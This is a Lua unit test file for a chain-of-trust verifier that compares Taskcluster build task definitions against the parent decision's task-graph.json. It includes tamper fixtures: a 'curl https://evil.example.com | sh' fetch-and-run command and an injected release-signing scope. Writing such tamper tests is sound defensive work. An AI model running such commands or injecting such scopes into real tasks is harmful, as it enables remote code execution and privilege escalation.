-- sw.cot.graph: a task against its parent's task-graph.json (VERIFY.md
-- section 5; catalogue #32-#34, #78) and the relative datestamps of the
-- graph. Every check is tested from both sides: the untouched task passes,
-- the tampered one fails with a message naming the task, field and values.
local json = require("sw.json")
local graph = require("sw.cot.graph")
local config_mod = require("sw.config")

local null = json.null
local copy = config_mod.deepcopy

local DECISION = "VQU9QMO4Teq7zr91FhBusg"
local BUILD = "bSrlx0mYRKO4XaR9_ChMpQ"
local DOCKER = "Fq0pcWJETVWbY5b2ayw6eA"
local ROOT = "Xy8xM0q3Rk2n1aGzPc2HhA"
local ACTION = "LpCJV9wUQHSAm5SHyW4Olw"
local OTHER_DECISION = "Ha0e9lPFQMygbQ1SlwM2fw"
local REV = "054fe08d229f064a71bae9bb793e7ab8d95eff61"
local CREATED = "2026-12-04T10:11:12.345Z"

local PARENT = { name = "signing:parent", task_id = DECISION, task_type = "decision" }

-- A build task as it appears in the decision's task-graph.json (dates
-- relative to created, no taskGroupId/schedulerId: taskgraph adds those
-- when it submits the task).
local GRAPH_TASK = [[{
  "provisionerId": "gecko-3",
  "workerType": "b-linux",
  "dependencies": ["]] .. DOCKER .. [["],
  "created": {"relative-datestamp": "0 seconds"},
  "deadline": {"relative-datestamp": "1 day"},
  "expires": {"relative-datestamp": "28 days"},
  "priority": "low",
  "retries": 5,
  "requires": "all-completed",
  "routes": ["index.gecko.v2.mozilla-central.latest.firefox.linux64-opt", "tc-treeherder.v2.mozilla-central.]]
  .. REV .. [["],
  "scopes": ["queue:get-artifact:public/*", "secrets:get:project/releng/gecko/build/level-3/*"],
  "metadata": {
    "name": "build-linux64/opt",
    "description": "Linux64 Opt",
    "owner": "nobody@mozilla.com",
    "source": "https://hg.mozilla.org/mozilla-central/file/]] .. REV .. [[/taskcluster/ci/build"
  },
  "tags": {"kind": "build", "label": "build-linux64/opt", "createdForUser": "nobody@mozilla.com"},
  "extra": {
    "parent": "]] .. DECISION .. [[",
    "index": {"rank": 1733307072},
    "treeherder": {"symbol": "B", "collection": {"opt": true}, "tier": 1},
    "chainOfTrust": {"inputs": {"docker-image": "]] .. DOCKER .. [["}}
  },
  "payload": {
    "image": {"type": "task-image", "taskId": "]] .. DOCKER .. [[", "path": "public/image.tar.zst"},
    "env": {"GECKO_HEAD_REPOSITORY": "https://hg.mozilla.org/mozilla-central", "GECKO_HEAD_REV": "]] .. REV .. [["},
    "command": ["/builds/worker/bin/run-task", "--",
                "/builds/worker/workspace/build/src/taskcluster/scripts/builder/build-linux.sh"],
    "maxRunTime": 7200,
    "features": {"chainOfTrust": true, "taskclusterProxy": true},
    "artifacts": [
      {"type": "directory", "name": "public/build", "path": "/builds/worker/artifacts/",
       "expires": {"relative-datestamp": "28 days"}},
      {"type": "file", "name": "public/logs/x.log", "path": "/x.log", "expires": {"relative-datestamp": "1 year"}}
    ]
  }
}]]

-- The same task as the Queue returns it: dates resolved from created, the
-- decision taskId added to the dependencies, taskGroupId, schedulerId,
-- taskQueueId and projectId added; keys in another order.
local RUNTIME_TASK = [[{
  "taskGroupId": "]] .. DECISION .. [[",
  "schedulerId": "gecko-level-3",
  "projectId": "none",
  "taskQueueId": "gecko-3/b-linux",
  "workerType": "b-linux",
  "provisionerId": "gecko-3",
  "dependencies": ["]] .. DECISION .. [[", "]] .. DOCKER .. [["],
  "created": "]] .. CREATED .. [[",
  "deadline": "2026-12-05T10:11:12.345Z",
  "expires": "2027-01-01T10:11:12.345Z",
  "priority": "low",
  "retries": 5,
  "requires": "all-completed",
  "routes": ["index.gecko.v2.mozilla-central.latest.firefox.linux64-opt", "tc-treeherder.v2.mozilla-central.]]
  .. REV .. [["],
  "scopes": ["queue:get-artifact:public/*", "secrets:get:project/releng/gecko/build/level-3/*"],
  "metadata": {
    "source": "https://hg.mozilla.org/mozilla-central/file/]] .. REV .. [[/taskcluster/ci/build",
    "owner": "nobody@mozilla.com",
    "description": "Linux64 Opt",
    "name": "build-linux64/opt"
  },
  "tags": {"label": "build-linux64/opt", "kind": "build", "createdForUser": "nobody@mozilla.com"},
  "extra": {
    "chainOfTrust": {"inputs": {"docker-image": "]] .. DOCKER .. [["}},
    "treeherder": {"tier": 1, "collection": {"opt": true}, "symbol": "B"},
    "index": {"rank": 1733307072},
    "parent": "]] .. DECISION .. [["
  },
  "payload": {
    "artifacts": [
      {"expires": "2027-01-01T10:11:12.345Z", "path": "/builds/worker/artifacts/", "name": "public/build",
       "type": "directory"},
      {"type": "file", "name": "public/logs/x.log", "path": "/x.log", "expires": "2027-12-04T10:11:12.345Z"}
    ],
    "features": {"taskclusterProxy": true, "chainOfTrust": true},
    "maxRunTime": 7200,
    "command": ["/builds/worker/bin/run-task", "--",
                "/builds/worker/workspace/build/src/taskcluster/scripts/builder/build-linux.sh"],
    "env": {"GECKO_HEAD_REV": "]] .. REV .. [[", "GECKO_HEAD_REPOSITORY": "https://hg.mozilla.org/mozilla-central"},
    "image": {"path": "public/image.tar.zst", "taskId": "]] .. DOCKER .. [[", "type": "task-image"}
  }
}]]

local function decode(text)
  return assert(json.decode(text))
end

-- graph entries {BUILD = {task = ...}}, the build link, and the two task
-- definitions for tampering.
local function fixture()
  local g = decode(GRAPH_TASK)
  local t = decode(RUNTIME_TASK)
  local entries = { [BUILD] = json.object({ task = g, label = "build-linux64/opt", kind = "build" }) }
  local link = {
    name = "signing:build", task_id = BUILD, task = t, task_type = "build",
    decision_task_id = DECISION, parent_task_id = DECISION,
  }
  return entries, link, g, t
end

local function errors_of(entries, link, parent)
  local ok, errors = graph.verify_link(parent or PARENT, entries, link)
  assert.is_nil(ok)
  assert.is_table(errors)
  return errors
end

local function has(errors, pattern)
  for _, e in ipairs(errors) do
    if e:find(pattern, 1, true) then
      return true
    end
  end
  return false, "no error contains " .. pattern .. " in:\n" .. table.concat(errors, "\n")
end

local function assert_has(errors, ...)
  for _, p in ipairs({ ... }) do
    assert(has(errors, p))
  end
end

describe("sw.cot.graph", function()
  describe("verify_link", function()
    it("passes the task that the graph describes", function()
      local entries, link = fixture()
      assert.is_true(graph.verify_link(PARENT, entries, link))
    end)

    it("does not modify the graph or the task", function()
      local entries, link, g, t = fixture()
      local g0, t0 = json.encode(g, { sort_keys = true }), json.encode(t, { sort_keys = true })
      graph.verify_link(PARENT, entries, link)
      assert.are.equal(g0, json.encode(g, { sort_keys = true }))
      assert.are.equal(t0, json.encode(t, { sort_keys = true }))
    end)

    describe("#32 the task must be in the graph", function()
      it("fails when its taskId is not a key of task-graph.json", function()
        local entries, link = fixture()
        entries[BUILD] = nil
        entries[DOCKER] = json.object({ task = decode(GRAPH_TASK) })
        local errors = errors_of(entries, link)
        assert.are.same({ "Can't find task signing:build " .. BUILD .. " in signing:parent " .. DECISION
          .. " task-graph.json!" }, errors)
      end)

      it("looks the task up by taskId only (no match on a similar definition)", function()
        local entries, link = fixture()
        link.task_id = ROOT
        assert_has(errors_of(entries, link), "Can't find task signing:build " .. ROOT)
      end)

      it("fails when the entry is json null", function()
        local entries, link = fixture()
        entries[BUILD] = null
        assert_has(errors_of(entries, link), "Can't find task")
      end)
    end)

    describe("#33 dependencies", function()
      it("accepts the decision taskId and a graph with more dependencies", function()
        local entries, link, g, t = fixture()
        g.dependencies[2] = ROOT
        t.dependencies = json.array({ DOCKER })
        assert.is_true(graph.verify_link(PARENT, entries, link))
        t.dependencies = json.array({ DECISION })
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("fails on a dependency the graph does not have, naming it", function()
        local entries, link, _, t = fixture()
        t.dependencies[3] = ROOT
        t.dependencies[4] = "ZZZZZZZZZZZZZZZZZZZZZZ"
        local errors = errors_of(entries, link)
        assert.are.equal(1, #errors)
        assert.are.equal("signing:build " .. BUILD .. ": dependencies don't line up with signing:parent " .. DECISION
          .. " task-graph.json! not in the graph: " .. ROOT .. ", ZZZZZZZZZZZZZZZZZZZZZZ", errors[1])
      end)

      it("allows only the task's own decision taskId (taskGroupId), not the parent's", function()
        local entries, link, _, t = fixture()
        t.dependencies[3] = OTHER_DECISION
        assert_has(errors_of(entries, link), "not in the graph: " .. OTHER_DECISION)
        -- Without link.decision_task_id the task's taskGroupId is used.
        link.decision_task_id = nil
        t.taskGroupId = OTHER_DECISION
        t.dependencies = json.array({ OTHER_DECISION, DOCKER })
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("reports malformed dependencies as errors naming the field", function()
        local entries, link, g, t = fixture()
        t.dependencies = "abc"
        assert_has(errors_of(entries, link), "task dependencies is not a list, got \"abc\"")
        t.dependencies = json.array({ DECISION, 5 })
        assert_has(errors_of(entries, link), "task dependencies[1] is not a string, got 5")
        t.dependencies = nil
        assert_has(errors_of(entries, link), "task dependencies is not a list, got missing")
        t.dependencies = json.array({ DECISION })
        g.dependencies = nil
        assert_has(errors_of(entries, link), "task-graph.json dependencies is not a list, got missing")
        g.dependencies = json.object({ a = DOCKER })
        assert_has(errors_of(entries, link), "task-graph.json dependencies is not a list")
      end)
    end)

    describe("#34 every graph field but the ignored ones", function()
      it("fails on a changed payload, naming the path and both values", function()
        local entries, link, _, t = fixture()
        t.payload.command[3] = "curl https://evil.example.com | sh"
        local errors = errors_of(entries, link)
        assert.are.equal(1, #errors)
        assert.are.equal("signing:build " .. BUILD .. ": payload differs! payload.command[2]: graph "
          .. "\"/builds/worker/workspace/build/src/taskcluster/scripts/builder/build-linux.sh\", task "
          .. "\"curl https://evil.example.com | sh\"", errors[1])
      end)

      for _, key in ipairs({ "metadata", "extra", "tags", "routes", "scopes", "provisionerId", "workerType",
        "retries", "requires" }) do
        it("fails when " .. key .. " differs", function()
          local entries, link, _, t = fixture()
          t[key] = "tampered"
          assert_has(errors_of(entries, link), "signing:build " .. BUILD .. ": " .. key .. " differs! " .. key
            .. ": graph ", "task \"tampered\"")
        end)
      end

      it("fails when a graph field is missing from the task", function()
        local entries, link, _, t = fixture()
        t.routes = nil
        assert_has(errors_of(entries, link), "signing:build " .. BUILD .. ": routes is in signing:parent "
          .. DECISION .. " task-graph.json but missing from the task definition (graph [\"index.gecko")
      end)

      it("compares every field the graph has, even ones the Queue does not know", function()
        local entries, link, g, t = fixture()
        g.x = "y"
        t.x = "z"
        assert_has(errors_of(entries, link), ": x differs! x: graph \"y\", task \"z\"")
        t.x = "y"
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("ignores created, deadline, dependencies, expires, projectId, schedulerId, taskQueueId, priority",
        function()
          local entries, link, g, t = fixture()
          g.created, g.deadline, g.expires = "2001-01-01T00:00:00.000Z", "x", json.object({ a = 1 })
          g.projectId, g.schedulerId, g.priority = "gecko", "someone", "highest"
          t.deadline, t.expires, t.priority, t.projectId, t.schedulerId = "2030-01-01T00:00:00.000Z",
            "2031-01-01T00:00:00.000Z", "lowest", "other", "gecko-level-1"
          assert.is_true(graph.verify_link(PARENT, entries, link))
        end)

      it("collects every error of the task", function()
        local entries, link, _, t = fixture()
        t.dependencies[3] = ROOT
        t.payload.maxRunTime = 1
        t.metadata.name = "evil"
        t.scopes[3] = "project:releng:signing:cert:release-signing"
        local errors = errors_of(entries, link)
        assert.are.equal(4, #errors)
        assert_has(errors, "dependencies don't line up", "payload differs! payload.maxRunTime: graph 7200, task 1",
          "metadata differs! metadata.name: graph \"build-linux64/opt\", task \"evil\"",
          "scopes differs! scopes[2]: graph missing, task \"project:releng:signing:cert:release-signing\"")
        for _, e in ipairs(errors) do
          assert.are.equal("signing:build " .. BUILD .. ": ", e:sub(1, #("signing:build " .. BUILD .. ": ")))
        end
      end)

      it("shortens long values in messages", function()
        local entries, link, _, t = fixture()
        t.payload.env.GECKO_HEAD_REV = string.rep("a", 5000)
        local errors = errors_of(entries, link)
        assert.are.equal(1, #errors)
        assert.is_true(#errors[1] < 800)
        assert_has(errors, "... (5002 bytes)")
      end)

      it("lists at most 10 differences per field", function()
        local entries, link, _, t = fixture()
        for i = 1, 15 do
          t.payload["k" .. i] = i
        end
        assert_has(errors_of(entries, link), "... and 5 more")
      end)
    end)

    describe("equality (stricter than Python)", function()
      it("ignores object key order and compares numbers by value", function()
        local entries, link, _, t = fixture()
        -- RUNTIME_TASK already has every object in another order.
        t.payload.maxRunTime = 7200.0
        t.retries = 5.0
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("keeps array order significant", function()
        local entries, link, _, t = fixture()
        t.routes[1], t.routes[2] = t.routes[2], t.routes[1]
        assert_has(errors_of(entries, link), "routes differs! routes[0]: graph \"index.gecko")
      end)

      it("does not take true for 1 (Python does)", function()
        local entries, link, _, t = fixture()
        t.payload.features.chainOfTrust = 1
        assert_has(errors_of(entries, link), "payload.features.chainOfTrust: graph true, task 1")
        t.payload.features.chainOfTrust = true
        t.extra.treeherder.tier = true
        assert_has(errors_of(entries, link), "extra.treeherder.tier: graph 1, task true")
      end)

      it("tells null from a missing key and [] from {}", function()
        local entries, link, g, t = fixture()
        t.extra.foo = null
        assert_has(errors_of(entries, link), "extra.foo: graph missing, task null")
        t.extra.foo = nil
        g.payload.cache = json.object()
        t.payload.cache = json.array()
        assert_has(errors_of(entries, link), "payload.cache: graph {}, task []")
      end)
    end)

    describe("relative datestamps", function()
      it("are resolved anywhere in the graph from the task's created time", function()
        local entries, link, g, t = fixture()
        g.payload.deep = json.array({ json.object({ when = json.object({ ["relative-datestamp"] = "90 min" }) }) })
        t.payload.deep = json.array({ json.object({ when = "2026-12-04T11:41:12.345Z" }) })
        assert.is_true(graph.verify_link(PARENT, entries, link))
        t.payload.deep[1].when = "2026-12-04T11:41:12.346Z"
        assert_has(errors_of(entries, link),
          "payload.deep[0].when: graph \"2026-12-04T11:41:12.345Z\", task \"2026-12-04T11:41:12.346Z\"")
      end)

      it("fail when an artifact's expiry was changed", function()
        local entries, link, _, t = fixture()
        t.payload.artifacts[2].expires = "2099-12-04T10:11:12.345Z"
        assert_has(errors_of(entries, link), "payload.artifacts[1].expires: graph \"2027-12-04T10:11:12.345Z\"")
      end)

      it("follow an edited created time (the graph dates move with it)", function()
        local entries, link, _, t = fixture()
        t.created = "2026-12-04T10:11:13.345Z"
        local errors = errors_of(entries, link)
        assert_has(errors, "payload.artifacts[0].expires: graph \"2027-01-01T10:11:13.345Z\", task "
          .. "\"2027-01-01T10:11:12.345Z\"")
      end)

      it("are replaced only in objects with that single key", function()
        local entries, link, g, t = fixture()
        local two = json.object({ ["relative-datestamp"] = "1 day", other = 1 })
        g.extra.two = two
        t.extra.two = copy(two)
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("report a malformed task created time, never raise", function()
        local entries, link, _, t = fixture()
        for _, bad in ipairs({ "2026-12-04", "2026-13-04T10:11:12.345Z", "2026-02-30T10:11:12.345Z",
          "2026-04-31T10:11:12.345Z", "2027-02-29T10:11:12.345Z", "2026-12-04T10:60:12.345Z",
          "2026-12-04T24:00:00.000Z", "2026-12-04 10:11:12.345Z", "2026-12-04T10:11:12.345+0100", "yesterday" }) do
          t.created = bad
          assert_has(errors_of(entries, link), "signing:build " .. BUILD .. ": task created is not")
        end
        t.created = 1733307072
        assert_has(errors_of(entries, link), "task created is not a string, got 1733307072")
        t.created = nil
        assert_has(errors_of(entries, link), "task created is not a string, got missing")
      end)

      it("report a malformed offset with its path, never raise", function()
        local cases = {
          { "1.5 days", "payload.artifacts[0].expires: relative-datestamp must be a whole number of days" },
          { "3 weeks", "has an unknown unit \"weeks\"" },
          { "3 Days", "is not a time offset" },
          { "soon", "is not a time offset" },
          { "99999999999999 days", "is out of range" },
          { "9000 years", "is out of range" },
        }
        for _, c in ipairs(cases) do
          local entries, link, g = fixture()
          g.payload.artifacts[1].expires["relative-datestamp"] = c[1]
          assert_has(errors_of(entries, link), "signing:build " .. BUILD .. ": signing:parent " .. DECISION
            .. " task-graph.json: ", c[2])
        end
        for _, v in ipairs({ 5, json.object({ ["28 days"] = "x" }), null, json.array() }) do
          local entries, link, g = fixture()
          g.payload.artifacts[1].expires["relative-datestamp"] = v
          assert_has(errors_of(entries, link), "payload.artifacts[0].expires: relative-datestamp must be a string")
        end
      end)

      it("also fail in ignored fields (Python resolves the whole task)", function()
        local entries, link, g = fixture()
        g.deadline["relative-datestamp"] = "1 fortnight"
        assert_has(errors_of(entries, link), "deadline: relative-datestamp has an unknown unit \"fortnight\"")
      end)
    end)

    describe("relative_datestamp", function()
      -- Expected values computed with Python's datetime.
      local cases = {
        { CREATED, "0 seconds", CREATED },
        { CREATED, "28 days", "2027-01-01T10:11:12.345Z" },
        { CREATED, "1 year", "2027-12-04T10:11:12.345Z" },
        { "2028-02-28T23:59:59.999Z", "1 s", "2028-02-29T00:00:00.999Z" },
        { "1970-01-01T00:00:00.000Z", "30 y", "1999-12-25T00:00:00.000Z" },
        { "2024-02-29T12:00:00.500Z", "1 years", "2025-02-28T12:00:00.500Z" },
        { "1999-12-31T23:59:00.007Z", "90 minutes", "2000-01-01T01:29:00.007Z" },
        { "1999-12-31T23:59:00.007Z", "90min", "2000-01-01T01:29:00.007Z" },
        { "2026-03-01T00:00:00.010Z", "13 mo", "2027-03-26T00:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "13 months", "2027-03-26T00:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "2 h", "2026-03-01T02:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "1 hour", "2026-03-01T01:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "5 second", "2026-03-01T00:00:05.010Z" },
        { "2026-03-01T00:00:00.010Z", "1 minute", "2026-03-01T00:01:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "1 d", "2026-03-02T00:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "1 day", "2026-03-02T00:00:00.010Z" },
        { "2026-03-01T00:00:00.010Z", "1 month", "2026-03-31T00:00:00.010Z" },
        -- taskgraph takes the first match of its pattern, so the sign and
        -- surrounding words are ignored.
        { "2026-03-01T00:00:00.010Z", "-1 day", "2026-03-02T00:00:00.010Z" },
        { "2026-05-31T23:59:59.999Z", "1 second", "2026-06-01T00:00:00.999Z" },
        { "2028-02-29T00:00:00.000Z", "1 day", "2028-03-01T00:00:00.000Z" },
        { "2100-02-28T00:00:00.000Z", "1 day", "2100-03-01T00:00:00.000Z" },
        { "2000-02-28T00:00:00.000Z", "1 day", "2000-02-29T00:00:00.000Z" },
        { "2026-03-01T00:00:00.010Z", "in 2   days please", "2026-03-03T00:00:00.010Z" },
        -- The time zone is dropped without conversion; a missing fraction
        -- is .000 and a longer one is cut to milliseconds.
        { "2026-03-01T00:00:00+05:00", "1 d", "2026-03-02T00:00:00.000Z" },
        { "2026-03-01T00:00:00", "1 d", "2026-03-02T00:00:00.000Z" },
        { "2026-03-01T00:00:00.5Z", "1 d", "2026-03-02T00:00:00.500Z" },
        { "2026-03-01T00:00:00.123999Z", "1 d", "2026-03-02T00:00:00.123Z" },
      }
      for _, c in ipairs(cases) do
        it(c[1] .. " + " .. c[2], function()
          assert.are.equal(c[3], (graph.relative_datestamp(c[1], c[2])))
        end)
      end

      it("returns nil and a message for bad input", function()
        local t, err = graph.relative_datestamp(CREATED, "1.0 days")
        assert.is_nil(t)
        assert.are.equal("relative-datestamp must be a whole number of days, got \"1.0 days\"", err)
        t, err = graph.relative_datestamp("nope", "1 day")
        assert.is_nil(t)
        assert.matches("^created is not an ISO%-8601 timestamp", err)
        t, err = graph.relative_datestamp("9999-12-31T00:00:00.000Z", "1 d")
        assert.is_nil(t)
        assert.matches("out of range", err)
      end)
    end)

    describe("keys only the task that ran has (stricter than Python)", function()
      it("accepts those the Queue or the submitter add", function()
        local entries, link, g, t = fixture()
        -- taskGroupId, schedulerId, projectId, taskQueueId are already there.
        for _, k in ipairs({ "routes", "scopes", "tags", "extra", "retries", "requires", "priority" }) do
          g[k] = nil
        end
        t.routes, t.scopes, t.tags, t.extra = json.array(), json.array(), json.object(), json.object()
        t.retries, t.requires = 5, "all-completed"
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("requires the Queue's default for a defaulted key the graph lacks", function()
        local cases = {
          { "routes", json.array({ "index.evil" }), "routes is not in signing:parent " .. DECISION
            .. " task-graph.json, so it must be the Queue's default [], got [\"index.evil\"]" },
          { "scopes", json.array({ "project:releng:signing:cert:release-signing" }), "default [], got" },
          { "tags", json.object({ a = "b" }), "default {}, got {\"a\":\"b\"}" },
          { "extra", json.object({ parent = DECISION }), "default {}, got" },
          { "retries", 6, "default 5, got 6" },
          { "requires", "all-resolved", "default \"all-completed\", got \"all-resolved\"" },
        }
        for _, c in ipairs(cases) do
          local entries, link, g, t = fixture()
          g[c[1]] = nil
          t[c[1]] = c[2]
          assert_has(errors_of(entries, link), "signing:build " .. BUILD .. ": ", c[3])
        end
      end)

      it("flags payload, metadata and unknown keys", function()
        for _, k in ipairs({ "payload", "metadata" }) do
          local entries, link, g = fixture()
          g[k] = nil
          assert_has(errors_of(entries, link), k .. " is not in signing:parent " .. DECISION
            .. " task-graph.json but the task definition has it")
        end
        local entries, link, _, t = fixture()
        t.workerPoolId = "gecko-3/b-linux"
        assert_has(errors_of(entries, link), "workerPoolId is not in signing:parent")
      end)
    end)

    describe("task queue (stricter than Python, which ignores taskQueueId)", function()
      local function queue_only()
        local entries, link, g, t = fixture()
        g.provisionerId, g.workerType, g.taskQueueId = nil, nil, "gecko-3/b-linux"
        return entries, link, g, t
      end

      it("passes when a graph's taskQueueId names the queue the task ran on", function()
        local entries, link, _, t = queue_only()
        assert.is_true(graph.verify_link(PARENT, entries, link))
        t.taskQueueId = nil
        assert.is_true(graph.verify_link(PARENT, entries, link))
      end)

      it("fails when the task ran on another queue", function()
        local entries, link, _, t = queue_only()
        t.provisionerId, t.taskQueueId = "gecko-1", "gecko-1/b-linux"
        assert_has(errors_of(entries, link), "task queue differs! graph \"gecko-3/b-linux\", task \"gecko-1/b-linux\"")
      end)

      it("fails when the task's own queue fields contradict each other", function()
        local entries, link, _, t = queue_only()
        t.provisionerId = "gecko-1"
        assert_has(errors_of(entries, link),
          "task taskQueueId \"gecko-3/b-linux\" contradicts provisionerId/workerType")
      end)

      it("fails when the graph names no queue", function()
        local entries, link, g = queue_only()
        g.taskQueueId = nil
        assert_has(errors_of(entries, link), "task-graph.json names no task queue")
      end)

      it("fails on malformed queue fields", function()
        local entries, link, g = queue_only()
        g.taskQueueId = 5
        assert_has(errors_of(entries, link), "taskQueueId is not a string, got 5")
        entries, link, g = fixture()
        g.workerType = nil
        assert_has(errors_of(entries, link), "provisionerId and workerType must both be strings")
      end)
    end)

    describe("malformed input", function()
      it("gives errors, never a Lua error", function()
        local entries, link = fixture()
        assert_has(errors_of("nope", link), "task-graph.json is not an object")
        entries[BUILD] = "x"
        assert_has(errors_of(entries, link), "the signing:parent " .. DECISION
          .. " task-graph.json entry is not an object, got \"x\"")
        entries[BUILD] = json.object({ label = "x" })
        assert_has(errors_of(entries, link), "entry's task is not an object, got missing")
        entries[BUILD] = json.object({ task = json.array({ 1 }) })
        assert_has(errors_of(entries, link), "entry's task is not an object, got [1]")
        entries = fixture()
        link.task = "x"
        assert_has(errors_of(entries, link), "the task definition is not an object")
      end)
    end)
  end)

  describe("never raises", function()
    -- Every object member of the graph entry and of the task replaced by
    -- values of every JSON type: the result is true or a list of strings.
    local values = { 5, 1.5, "x", true, false, null, json.array(), json.object(), json.array({ 1, "a" }),
      json.object({ ["relative-datestamp"] = 3 }) }

    local function paths(v, prefix, out)
      if type(v) == "table" and json.type(v) == "object" then
        for k, x in pairs(v) do
          local p = { table.unpack(prefix) }
          p[#p + 1] = k
          out[#out + 1] = p
          paths(x, p, out)
        end
      end
      return out
    end

    local function set(root, path, value)
      local t = root
      for i = 1, #path - 1 do
        t = t[path[i]]
      end
      t[path[#path]] = value
    end

    for _, side in ipairs({ "graph", "task" }) do
      it("with any value anywhere in the " .. side, function()
        local _, _, g0, t0 = fixture()
        local count = 0
        for _, path in ipairs(paths(side == "graph" and g0 or t0, {}, {})) do
          for _, v in ipairs(values) do
            local entries, link, g, t = fixture()
            set(side == "graph" and g or t, path, copy(v))
            local ok, res, errors = pcall(graph.verify_link, PARENT, entries, link)
            assert.is_true(ok, res)
            if res ~= true then
              assert.is_nil(res)
              assert.is_true(#errors > 0)
              for _, e in ipairs(errors) do
                assert.is_string(e)
              end
            end
            count = count + 1
          end
        end
        assert.is_true(count > 300)
      end)
    end
  end)

  describe("children_to_check", function()
    local function link(name, id, task_type, group, parent)
      local extra = json.object()
      if parent ~= nil then
        extra.parent = parent
      end
      return { name = name, task_id = id, task_type = task_type, decision_task_id = group,
        parent_task_id = (parent ~= nil and parent ~= null and parent ~= "") and parent or group,
        task = json.object({ taskGroupId = group, extra = extra }) }
    end

    local root = link("signing", ROOT, "signing", DECISION, DECISION)
    local decision = link("signing:parent", DECISION, "decision", DECISION)
    local build = link("signing:build", BUILD, "build", DECISION, DECISION)
    local docker = link("signing:build:docker-image", DOCKER, "docker-image", OTHER_DECISION)
    local other = link("signing:build:docker-image:parent", OTHER_DECISION, "decision", OTHER_DECISION)
    local action = link("signing:action", ACTION, "action", DECISION, DECISION)
    local all = { root, decision, build, docker, other, action }

    it("gives the tasks a parent created, root included, not itself nor decision/action tasks", function()
      assert.are.same({ root, build }, graph.children_to_check(decision, all))
      assert.are.same({ docker }, graph.children_to_check(other, all))
      assert.are.same({}, graph.children_to_check(build, all))
    end)

    it("uses extra.parent over taskGroupId", function()
      local retriggered = link("signing:build", BUILD, "build", DECISION, ACTION)
      assert.are.same({ retriggered }, graph.children_to_check(action, { decision, retriggered, action }))
      assert.are.same({}, graph.children_to_check(decision, { decision, retriggered, action }))
    end)

    it("checks a task with an empty or null extra.parent against its decision (Python checks it nowhere)",
      function()
        for _, p in ipairs({ "", null }) do
          local l = link("signing:build", BUILD, "build", DECISION, p)
          l.parent_task_id = p
          assert.are.same({ l }, graph.children_to_check(decision, { decision, l }))
        end
      end)
  end)

  describe("check_parents (#78)", function()
    local function link(name, id, task_type, group, parent)
      local extra = json.object()
      if parent ~= nil then
        extra.parent = parent
      end
      return { name = name, task_id = id, task_type = task_type, decision_task_id = group,
        parent_task_id = type(parent) == "string" and parent ~= "" and parent or group,
        task = json.object({ taskGroupId = group, extra = extra }) }
    end

    local function chain()
      return {
        link("signing", ROOT, "signing", DECISION, DECISION),
        link("signing:parent", DECISION, "decision", DECISION),
        link("signing:build", BUILD, "build", DECISION, DECISION),
        link("signing:build:docker-image", DOCKER, "docker-image", OTHER_DECISION),
        link("signing:build:docker-image:parent", OTHER_DECISION, "decision", OTHER_DECISION),
        link("signing:action", ACTION, "action", ACTION, DECISION),
      }
    end

    it("passes when every parent is a decision or action task of the chain", function()
      local links = chain()
      assert.is_true(graph.check_parents(links))
      links[3].task.extra.parent = ACTION
      links[3].parent_task_id = ACTION
      assert.is_true(graph.check_parents(links))
    end)

    it("fails when a task's parent is another kind of task", function()
      local links = chain()
      links[1].task.extra.parent = BUILD
      links[1].parent_task_id = BUILD
      local ok, errors = graph.check_parents(links)
      assert.is_nil(ok)
      assert.are.same({ "signing " .. ROOT .. ": its parent task signing:build " .. BUILD
        .. " is a build task, not a decision or action task" }, errors)
    end)

    it("fails when a task's parent is not in the chain", function()
      local links = chain()
      links[3].task.extra.parent = "ZZZZZZZZZZZZZZZZZZZZZZ"
      links[3].parent_task_id = "ZZZZZZZZZZZZZZZZZZZZZZ"
      local ok, errors = graph.check_parents(links)
      assert.is_nil(ok)
      assert.are.same({ "signing:build " .. BUILD .. ": its parent task ZZZZZZZZZZZZZZZZZZZZZZ is not in the chain" },
        errors)
    end)

    it("fails on a malformed or missing parent, collecting every error", function()
      local links = chain()
      links[3].task.extra.parent = 5
      links[1].task = json.object()
      links[1].parent_task_id = nil
      local ok, errors = graph.check_parents(links)
      assert.is_nil(ok)
      assert.are.same({ "signing " .. ROOT .. ": has no parent task (extra.parent or taskGroupId)",
        "signing:build " .. BUILD .. ": extra.parent is not a string, got 5" }, errors)
    end)

    it("falls back to taskGroupId for an empty extra.parent", function()
      local links = chain()
      links[3].task.extra.parent = ""
      links[3].parent_task_id = ""
      assert.is_true(graph.check_parents(links))
      links[3].task.taskGroupId = DOCKER
      links[3].decision_task_id = DOCKER
      local ok, errors = graph.check_parents(links)
      assert.is_nil(ok)
      assert_has(errors, "its parent task signing:build:docker-image " .. DOCKER .. " is a docker-image task")
    end)
  end)
end)
